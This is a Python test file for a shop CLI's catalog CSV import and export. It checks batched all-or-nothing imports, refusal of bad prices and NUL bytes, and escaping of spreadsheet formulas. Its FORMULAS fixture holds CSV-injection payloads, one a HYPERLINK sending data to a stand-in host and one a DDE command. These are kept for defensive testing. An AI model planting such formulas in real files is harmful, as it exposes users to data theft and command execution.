"""`chatshop catalog import` of long files, odd prices, NUL bytes and spreadsheet formulas, on SQLite and
PostgreSQL: streamed in batches, still all or nothing, and every refusal reported on its line."""

from __future__ import annotations

import asyncio
import csv
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bots.app import open_shop
from bots.cli.catalog_shop import BATCH_ROWS
from bots.cli.main import main
from bots.config import load_settings
from commerce.storage.tables import AuditEvent, Product, Variant
from tests.conftest import BACKENDS
from tests.integration.test_catalog_csv import chatshop, read_rows, shop_dir, write_csv
from tests.support.postgres import create_database, drop_database


@pytest.fixture(params=BACKENDS)
def database_url(request: pytest.FixtureRequest) -> Iterator[str]:
    """The shop's database: SQLite in the shop folder, or a fresh PostgreSQL database."""
    if request.param == "sqlite":
        yield "sqlite+aiosqlite:///data/shop.db"
        return
    name, url = asyncio.run(create_database())
    try:
        yield url
    finally:
        asyncio.run(drop_database(name))


def catalog_rows(products: int, *, start: int = 0) -> list[list[str]]:
    """`products` products of 1–3 variants; a product's later variants come after the other products', so a
    product's rows are far apart (in different batches)."""
    first, later = [], []
    for number in range(start, start + products):
        sizes = ["S", "M", "L"][: number % 3 + 1]
        for position, size in enumerate(sizes):
            row = [f"p{number}", f"Tee {number}" if position == 0 else "", "Cotton" if position == 0 else "",
                   "Clothes" if position == 0 else "", f"TEE-{number}-{size}", f"size={size}",
                   str(1000 + number), str(number % 7)]
            (first if position == 0 else later).append(row)
    return first + later


def write_catalog(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["product_ref", "title", "description", "category", "sku", "options", "price", "stock"])
        writer.writerows(rows)
    return path


async def counts(folder: Path) -> tuple[int, int, int]:
    """Products, variants and product.create audit events in the shop."""
    settings = load_settings(folder / "bot.toml", environ={})
    async with open_shop(settings) as shop, shop.db.uow(write=False) as uow:
        connection = await uow.connection()
        products = (await connection.execute(select(func.count()).select_from(Product))).scalar_one()
        variants = (await connection.execute(select(func.count()).select_from(Variant))).scalar_one()
        created = (await connection.execute(select(func.count()).select_from(AuditEvent)
                                            .where(AuditEvent.action == "product.create"))).scalar_one()
    return products, variants, created


# ---- item 22: long files, in batches, all or nothing ----

def test_a_long_file_is_imported_in_batches_with_far_apart_variants(
        tmp_path: Path, database_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    folder = shop_dir(tmp_path, url=database_url)
    rows = catalog_rows(700)
    assert len(rows) > 2 * BATCH_ROWS
    path = write_catalog(tmp_path / "long.csv", rows)

    assert chatshop(folder, "catalog", "import", str(path)) == 0

    assert f"imported 700 products ({len(rows)} variants)" in capsys.readouterr().out
    assert asyncio.run(counts(folder)) == (700, len(rows), 700)
    exported = tmp_path / "export.csv"
    assert chatshop(folder, "catalog", "export", str(exported)) == 0
    by_sku = {row["sku"]: row for row in read_rows(exported)}
    assert len({by_sku[f"TEE-698-{size}"]["product_ref"] for size in "SML"}) == 1  # one product, 3 variants
    assert (by_sku["TEE-698-L"]["options"], by_sku["TEE-698-L"]["price"]) == ("size=L", "1698")
    assert (by_sku["TEE-698-L"]["title"], by_sku["TEE-698-L"]["category"]) == ("Tee 698", "Clothes")


def test_a_bad_row_after_many_batches_leaves_the_shop_as_it_was(
        tmp_path: Path, database_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    folder = shop_dir(tmp_path, url=database_url)
    first = write_csv(tmp_path, "title,price,sku\nKeep me,500,KEEP\nKeep too,600,KEEP2\n", "first.csv")
    assert chatshop(folder, "catalog", "import", str(first)) == 0
    rows = catalog_rows(700)
    rows.append(["p1", "", "", "", "KEEP2", "size=XL", "100", "1"])    # a variant of a product added long ago
    rows.append(["last", "Last one", "", "", "KEEP", "", "100", "1"])  # SKUs the shop already has
    rows.append(["bad", "Bad price", "", "", "BAD", "", "12,50", "1"])  # and a decimal comma
    path = write_catalog(tmp_path / "long.csv", rows)
    capsys.readouterr()

    assert chatshop(folder, "catalog", "import", str(path)) == 1

    err = capsys.readouterr().err
    line = len(rows) + 1
    assert f'line {line - 2}: sku: "KEEP2" is already used by a product in the shop' in err
    assert f'line {line - 1}: sku: "KEEP" is already used by a product in the shop' in err
    assert f'line {line}: price: "12,50"' in err and "Traceback" not in err
    assert "3 problems, nothing was imported" in err
    assert asyncio.run(counts(folder)) == (2, 2, 2)  # the batches already written were rolled back


def test_a_file_that_turns_out_not_to_be_utf8_imports_nothing(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = shop_dir(tmp_path)
    path = write_catalog(tmp_path / "long.csv", catalog_rows(700))
    with path.open("ab") as out:  # a last row saved from a spreadsheet in Shift_JIS, after many batches
        out.write("last,お茶,,,TEA,,500,1\r\n".encode("shift_jis"))

    assert chatshop(folder, "catalog", "import", str(path)) == 1

    err = capsys.readouterr().err
    assert "not UTF-8 text, nothing was imported" in err and "Traceback" not in err
    assert asyncio.run(counts(folder)) == (0, 0, 0)


def test_reading_stops_after_a_thousand_problems(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = shop_dir(tmp_path)
    path = write_csv(tmp_path, "title,price\n" + "Tea,free\n" * 1500)  # the wrong file, most likely

    assert chatshop(folder, "catalog", "import", str(path)) == 1

    err = capsys.readouterr().err
    assert "1000 problems (reading stopped there; fix these and try again), nothing was imported" in err
    assert 'line 1001: price: "free"' in err and "line 1002:" not in err


@pytest.mark.slow
def test_memory_stays_flat_however_long_the_file(tmp_path: Path) -> None:
    """Python memory at its peak during an import grows far slower than the file: what is kept per row is
    only what later rows are checked against (its SKU, its product's first row), never the rows themselves
    or the database objects made of them."""
    def peak_bytes(products: int, name: str) -> int:
        folder = shop_dir(tmp_path, name)
        path = write_catalog(tmp_path / f"{name}.csv", catalog_rows(products))
        tracemalloc.start()
        try:
            assert main(["catalog", "import", str(path), "--config", str(folder / "bot.toml")]) == 0
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    peak_bytes(200, "warm-up")  # imports, SQLAlchemy's statement caches
    small, large = peak_bytes(500, "small"), peak_bytes(2500, "large")  # 1,000 and 5,000 rows
    per_row = (large - small) / 4000
    # Measured: ~450 bytes a row streamed; ~1,250 when the whole file and every product were held at once.
    assert per_row < 800, f"{per_row:.0f} bytes a row ({small / 1e6:.1f} MB → {large / 1e6:.1f} MB)"


# ---- item 9: prices, and smaller: NUL bytes ----

def test_decimal_commas_and_over_large_prices_are_refused_on_their_lines(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = shop_dir(tmp_path, currency="USD")
    bad = write_csv(tmp_path, (
        "title,price,stock\n"
        "Mug,\"12,50\",1\n"                   # line 2: a decimal comma, once read as 1250.00
        "Cup,\"1,2345\",1\n"                  # line 3
        "Pot,\"1.200,50\",1\n"                # line 4
        "Tray,99999999999999999999999,1\n"    # line 5: once a raw OverflowError from the database
        "Bowl,1e100,1\n"                      # line 6: once a raw decimal.InvalidOperation
        "Plate,\"1,200.50\",1\n"              # fine: thousands
        "Jar,5,\"1,5\"\n"                     # fine price, but stock "1,5" is not a number of units
    ))

    assert chatshop(folder, "catalog", "import", str(bad)) == 1

    err = capsys.readouterr().err
    problems = [line for line in err.splitlines() if line.startswith("line ")]
    assert [p.split(":")[0] for p in problems] == [f"line {n}" for n in (2, 3, 4, 5, 6, 8)]
    assert problems[0] == ('line 2: price: "12,50" is not a price in USD: write decimals with a point (12.50); '
                           "a comma may only separate thousands (1,200)")
    assert problems[3] == ('line 5: price: "99999999999999999999999" is more than the highest price allowed '
                           "(10,000,000,000.00 USD)")
    assert 'line 6: price: "1e100" is not a price in USD' in problems[4]
    assert problems[5] == 'line 8: stock: expected a whole number from 0 to 1000000, got "1,5"'
    assert "Traceback" not in err and "unexpected error" not in err
    assert chatshop(folder, "catalog", "list", "--hidden") == 0
    assert "no products yet" in capsys.readouterr().out


def test_a_stock_with_a_decimal_comma_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = shop_dir(tmp_path)
    assert chatshop(folder, "catalog", "import", str(write_csv(tmp_path, "title,price,stock\nJar,500,\"1,5\"\n"
                                                                "Box,500,\"1,200\"\n"))) == 1
    err = capsys.readouterr().err
    assert 'line 2: stock: expected a whole number from 0 to 1000000, got "1,5"' in err
    assert "line 3" not in err


def test_nul_bytes_are_refused_on_their_line_and_nothing_is_stored(
        tmp_path: Path, database_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    folder = shop_dir(tmp_path, url=database_url)
    path = tmp_path / "nul.csv"
    path.write_bytes(b"title,description,sku,price\nGood,Fine,GOOD,100\nTea\x00pot,Hot,POT,500\n"
                     b"Cup,Nice\x00,C\x00P,300\n")

    assert chatshop(folder, "catalog", "import", str(path)) == 1

    err = capsys.readouterr().err
    assert "line 3: title: holds a NUL character" in err
    assert "line 4: description: holds a NUL character" in err and "line 4: sku: holds a NUL character" in err
    assert "Traceback" not in err and "unexpected error" not in err
    assert asyncio.run(counts(folder)) == (0, 0, 0)


# ---- item 13: spreadsheet formulas ----

FORMULAS = [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("'=already quoted", "''=already quoted"),   # an apostrophe a formula-looking cell starts with is kept
    ("'plain quote", "'plain quote"),           # nothing a spreadsheet would run: written as it is
    ("Tea cup", "Tea cup"),
]


def test_export_neutralises_formulas_and_import_reads_them_back(
        tmp_path: Path, database_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    first = shop_dir(tmp_path, "first", url=database_url)
    path = tmp_path / "formulas.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["title", "description", "category", "sku", "options", "price"])
        for number, (title, _) in enumerate(FORMULAS):
            # A file written by hand: a cell that starts with an apostrophe and a formula sign loses that
            # apostrophe on import, so "'=already quoted" is typed with one more.
            typed = f"'{title}" if title.startswith("'=") else title
            writer.writerow([typed, "=1+1", "@Cat" if number == 0 else "", f"-SKU-{number}",
                             "size=-M" if number == 0 else "", "100"])
    assert chatshop(first, "catalog", "import", str(path)) == 0
    exported = tmp_path / "first.csv"

    assert chatshop(first, "catalog", "export", str(exported)) == 0

    rows = read_rows(exported)
    assert [row["title"] for row in rows] == [escaped for _, escaped in FORMULAS]
    assert {row["description"] for row in rows} == {"'=1+1"}
    assert (rows[0]["category"], rows[0]["sku"], rows[0]["options"]) == ("'@Cat", "'-SKU-0", "size=-M")
    raw = exported.read_text(encoding="utf-8")
    assert not any(line.startswith(("=", "+", "-", "@")) for line in raw.splitlines())
    # Round trip: the export imports into an empty shop as the same catalog, and exports the same again.
    second = shop_dir(tmp_path, "second")
    assert chatshop(second, "catalog", "import", str(exported)) == 0
    assert chatshop(second, "catalog", "export", str(tmp_path / "second.csv")) == 0
    assert read_rows(tmp_path / "second.csv") == rows
    capsys.readouterr()
    assert chatshop(second, "catalog", "list") == 0
    listing = capsys.readouterr().out
    assert "=HYPERLINK" in listing and "'=HYPERLINK" not in listing and "'=already quoted" in listing


def test_help_explains_formula_neutralising(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["catalog", "export", "--help"]) == 0
    export_help = " ".join(capsys.readouterr().out.split())
    assert "apostrophe" in export_help and "= + - @" in export_help
    assert main(["catalog", "import", "--help"]) == 0
    import_help = " ".join(capsys.readouterr().out.split())
    assert "apostrophe" in import_help and "'=SUM(A1)" in import_help and '"12,50" is refused' in import_help
